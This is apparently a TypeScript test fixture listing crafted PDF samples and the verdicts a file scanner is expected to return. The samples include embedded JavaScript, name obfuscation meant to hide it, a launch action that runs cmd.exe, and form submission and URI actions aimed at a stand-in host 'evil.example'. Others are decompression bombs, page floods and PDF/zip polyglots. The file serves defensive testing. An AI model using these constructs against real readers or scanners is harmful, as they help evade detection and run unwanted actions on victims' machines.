import { deflateSync } from 'node:zlib';
import { docxOf, zipOf } from '../support/zip.ts';
import type { Hostile } from './corpus.ts';
import { FIRST, packed, pdfOf, streamOf } from './pdf.ts';

type Made = Parameters<typeof pdfOf>[0] | (() => Buffer);

function pdf(what: string, verdict: Hostile['verdict'], made: Made): Hostile {
  const bytes = typeof made === 'function' ? made : () => pdfOf(made);
  return { what: `a PDF ${what}`, fileName: 'report.pdf', bytes, verdict };
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const fills = (says: string) => ({ catalog: `/AcroForm << /Fields [] ${says} >>` });
const opens = (what: string, ...objects: string[]) => ({ catalog: `/OpenAction ${what}`, objects });
const pages = (count: number) => ({ objects: Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R >>') });
const picture = (side: number) =>
  streamOf({
    dictionary: `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8 /Filter /FlateDecode`,
    content: deflateSync(Buffer.alloc(100_000)),
  });

/** Nothing, 60 MB long, in 60 kB. */
const growing = () => pdfOf({ objects: [packed([' '.repeat(60_000_000)])] });

function nestedPages(): string {
  return '<< /Type /Pages /Kids [2 0 R 4 0 R] /Parent 4 0 R /Count 2147483647 >>';
}

/** A zip with something after its end, as some programs that unpack do not mind. */
function zipWithTail(): Buffer {
  return Buffer.concat([pdfOf(), zipOf([{ name: 'a.html', content: '<script>' }]), Buffer.from('\n%%EOF\n')]);
}

export const HOSTILE_PDF: Hostile[] = [
  pdf('as it should be', [], {}),
  pdf('whose objects are packed', [], { objects: [packed(['<< /Type /Font >>', '<< /Type /Annot >>'])] }),
  pdf('with links to pages', [], { objects: ['<< /Type /Annot /A << /S /URI /URI (https://www.un.org/) >> >>'] }),
  pdf('that opens at its first page', [], opens('[3 0 R /Fit]')),
  pdf('that opens at a page by an action', [], opens(`${FIRST} 0 R`, '<< /S /GoTo /D [3 0 R /Fit] >>')),
  pdf('that opens at a page named elsewhere in it', [], opens(`${FIRST} 0 R`, '[3 0 R /Fit]')),
  pdf('that opens at a page by a packed action', [], () =>
    pdfOf({ catalog: '/OpenAction 50 0 R', objects: [packed(['<< /S /GoTo /D [3 0 R /Fit] >>'])] }),
  ),
  pdf('encrypted', ['encrypted'], { trailer: `/Encrypt ${FIRST} 0 R`, objects: ['<< /Filter /Standard /V 4 >>'] }),
  pdf('with a word like encrypted', [], { objects: ['<< /EncryptMetadata true >>'] }),
  pdf('with a script', ['script'], { objects: [SCRIPT] }),
  pdf('with a script whose name is written in numbers', ['script'], { objects: [SCRIPT.replace('Java', 'J#61v#61')] }),
  pdf('with a packed script', ['script'], { objects: [packed([SCRIPT])] }),
  pdf('with a script packed under a name in numbers', ['unread'], () => {
    const hidden = packed([SCRIPT]).toString('latin1').replace('/ObjStm', '/Obj#53tm');
    return pdfOf({ objects: [Buffer.from(hidden, 'latin1')] });
  }),
  pdf('packed in an unusual way', ['unread'], { objects: [packed([SCRIPT], '/DecodeParms << /Predictor 12 >>')] }),
  pdf('whose packed objects are far away', ['unread'], () =>
    pdfOf({ objects: [packed([SCRIPT], `%${'x'.repeat(5_000)}\n`)] }),
  ),
  pdf('that starts a program', ['actsByItself'], { objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
  pdf('that sends what is filled in', ['actsByItself'], {
    objects: ['<< /S /SubmitForm /F (https://evil.example) >>'],
  }),
  pdf('that opens an address', ['actsByItself'], opens('<< /S /URI /URI (https://evil.example) >>')),
  pdf('that opens an address elsewhere in it', ['actsByItself'], opens(`${FIRST} 0 R`, '<< /S /URI /URI (x:y) >>')),
  pdf('that goes to a page, then opens an address', ['actsByItself'], opens('<< /S /GoTo /Next << /S /URI >> >>')),
  pdf('that opens what is nowhere', ['actsByItself'], opens('99 0 R')),
  pdf('that opens a thousand things', ['actsByItself'], { objects: Array(1_000).fill('<< /OpenAction 3 0 R >>') }),
  pdf('with a file inside', ['filesInside'], {
    catalog: `/Names << /EmbeddedFiles ${FIRST} 0 R >>`,
    objects: ['<< >>'],
  }),
  pdf('with a form of Adobe', ['fillableForm'], fills('/XFA [(template) 4 0 R]')),
  pdf('with an ordinary form', [], fills('')),
  pdf('of 501 pages', ['manyPages'], pages(500)),
  pdf('of 500 pages', [], pages(499)),
  pdf('of 50,000 pages', ['manyPages'], () => pdfOf(pages(50_000))),
  pdf('of 600 packed pages', ['manyPages'], () => pdfOf({ objects: [packed(Array(600).fill('<< /Type /Page >>'))] })),
  pdf('whose packed objects grow to 60 MB', ['unread'], growing),
  pdf('whose packed objects are broken', ['unread'], () =>
    pdfOf({
      objects: [streamOf({ dictionary: '/Type /ObjStm /First 5 /Filter /FlateDecode', content: Buffer.from('??') })],
    }),
  ),
  pdf('whose pages lead back to themselves', [], () => pdfOf({ objects: [nestedPages()] })),
  pdf('that is a picture only', [], { objects: [picture(1_000)] }),
  pdf('with a picture of 100,000 dots in each direction', [], { objects: [picture(100_000)] }),
  pdf('cut off', 'fileCutOff', () => pdfOf().subarray(0, -8)),
  pdf('cut off by 3,000 zeros at its end', 'fileCutOff', () => Buffer.concat([pdfOf(), Buffer.alloc(3_000)])),
  pdf('with other words before it', 'fileNotWhatItSays', () => Buffer.concat([Buffer.from('<html>\n'), pdfOf()])),
  pdf('that is a zip too', 'fileNotWhatItSays', () => Buffer.concat([pdfOf(), docxOf()])),
  pdf('that is a zip too, to those who do not mind a tail', 'fileNotWhatItSays', zipWithTail),
];
